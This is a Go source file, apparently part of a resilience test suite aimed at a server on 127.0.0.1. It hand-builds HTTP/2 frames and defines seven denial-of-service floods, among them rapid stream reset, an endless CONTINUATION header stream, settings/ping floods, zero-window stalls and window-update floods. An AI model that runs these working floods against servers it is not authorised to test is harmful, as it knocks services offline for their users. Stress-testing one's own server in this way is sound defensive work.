package main

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"strings"
	"time"
)

// Types and flags of HTTP/2 frames (RFC 9113, section 6).
const (
	typeData         = 0
	typeHeaders      = 1
	typeReset        = 3
	typeSettings     = 4
	typePing         = 6
	typeWindow       = 8
	typeContinuation = 9
	endStream        = 1
	endHeaders       = 4
)

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

func frame2(kind, flags byte, stream uint32, payload string) string {
	head := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return string(binary.BigEndian.AppendUint32(head, stream)) + payload
}

// headers2 returns a header block (RFC 7541) of fields of the static table and literals without an
// index.
func headers2(method byte, path, token string) string {
	literal := func(index byte, value string) string { return string([]byte{index, byte(len(value))}) + value }
	block := string([]byte{method, 0x87}) + literal(0x04, path) + literal(0x01, "127.0.0.1")
	if token != "" {
		block += string([]byte{0x0f, 0x08, byte(len(token) + 7)}) + "Bearer " + token // authorization, index 23
	}
	return block
}

const (
	get2  = 0x82
	post2 = 0x83
)

// http2Attack returns an attack over a number of HTTP/2 connections.
func http2Attack(name string, connections int, talk func(ctx context.Context, c net.Conn, token string)) attack {
	return attack{"HTTP/2: " + name, func(ctx context.Context, t *target) error {
		if err := t.fillLong(ctx); err != nil {
			return err
		}
		held, cancel := context.WithTimeout(ctx, 6*time.Second)
		defer cancel()
		ended := make(chan struct{}, connections)
		for range connections {
			go func() { // waited for below
				defer func() { ended <- struct{}{} }()
				c, err := t.dial(held, "h2")
				if err != nil {
					return
				}
				stop := context.AfterFunc(held, func() { _ = c.Close() })
				defer stop()
				defer func() { _ = c.Close() }()
				if write(c, preface+frame2(typeSettings, 0, 0, "")) {
					talk(held, c, t.token)
				}
			}()
		}
		for range connections {
			<-ended
		}
		return nil
	}}
}

// repeat sends what make returns for each of count streams, and then waits.
func repeat(count int, make func(stream uint32, token string) string) func(context.Context, net.Conn, string) {
	return func(ctx context.Context, c net.Conn, token string) {
		go func() { _, _ = io.Copy(io.Discard, c) }() // ends when over2 closes c
		for i := range count {
			if !write(c, make(uint32(2*i+1), token)) {
				return
			}
		}
		<-ctx.Done()
	}
}

func frames2() []attack {
	return []attack{
		http2Attack("20,000 streams, reset at once", 4, repeat(20_000, func(stream uint32, token string) string {
			return frame2(typeHeaders, endStream|endHeaders, stream, headers2(get2, "/v1/stats", token)) + frame2(typeReset, 0,
				stream, "\x00\x00\x00\x08")
		})),
		http2Attack("10,000 streams that stay open", 4, repeat(10_000, func(stream uint32, token string) string {
			return frame2(typeHeaders, endHeaders, stream, headers2(post2, "/v1/messages", token))
		})),
		http2Attack("headers that go on for ever", 4, func(ctx context.Context, c net.Conn, token string) {
			said := frame2(typeHeaders, endStream, 1, headers2(get2, "/healthz", token))
			for range 20_000 {
				if !write(c, said) {
					return
				}
				said = frame2(typeContinuation, 0, 1, strings.Repeat("\x00\x01a\x01b", 100))
			}
			<-ctx.Done()
		}),
		http2Attack("settings and pings", 8, repeat(50_000, func(uint32, string) string {
			return frame2(typeSettings, 0, 0, "") + frame2(typePing, 0, 0, "12345678")
		})),
		http2Attack("pages into a window of nothing", 8, repeat(200, func(stream uint32, token string) string {
			said := frame2(typeHeaders, endStream|endHeaders, stream,
				headers2(get2, "/v1/threads/long/entries?limit=500", token))
			if stream == 1 {
				said = frame2(typeSettings, 0, 0, "\x00\x04\x00\x00\x00\x00") + said
			}
			return said
		})),
		http2Attack("empty pieces of a body", 4, repeat(1, func(stream uint32, token string) string {
			return frame2(typeHeaders, endHeaders, stream, headers2(post2, "/v1/messages",
				token)) + strings.Repeat(frame2(typeData, 0, stream, ""), 100_000)
		})),
		http2Attack("windows that grow", 4, repeat(50_000, func(stream uint32, _ string) string {
			return frame2(typeWindow, 0, 0, "\x00\x00\x00\x01")
		})),
	}
}
